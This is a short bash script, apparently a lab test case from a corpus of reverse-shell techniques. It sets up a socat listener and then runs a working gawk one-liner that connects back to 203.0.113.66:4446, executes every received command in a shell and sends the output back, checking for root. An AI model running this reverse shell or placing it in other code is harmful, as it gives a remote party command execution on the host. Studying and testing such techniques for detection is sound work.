#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=tune tool=gawk,dash far=out ready=out:4446 seconds=18 parts=dns
# gawk calls back by its own /inet and gives every line it gets to a shell of its own.
# shellcheck disable=SC2016 # awk has its own variables
if [ "$1" = out ]; then (sleep 2; for line in id "ls /" "uname -a" exit; do echo "$line"; sleep 2; done) | timeout 30 socat -t 2 - TCP-LISTEN:4446,bind=203.0.113.66,reuseaddr >"$LAB/heard"; exit 0; fi
cd "$LAB" && timeout 18 gawk 'BEGIN { s = "/inet/tcp/0/203.0.113.66/4446"; while ((s |& getline c) > 0 && c != "exit") { while ((c |& getline l) > 0) print l |& s; close(c) } close(s) }'
grep -q uid=0 "$LAB/heard"
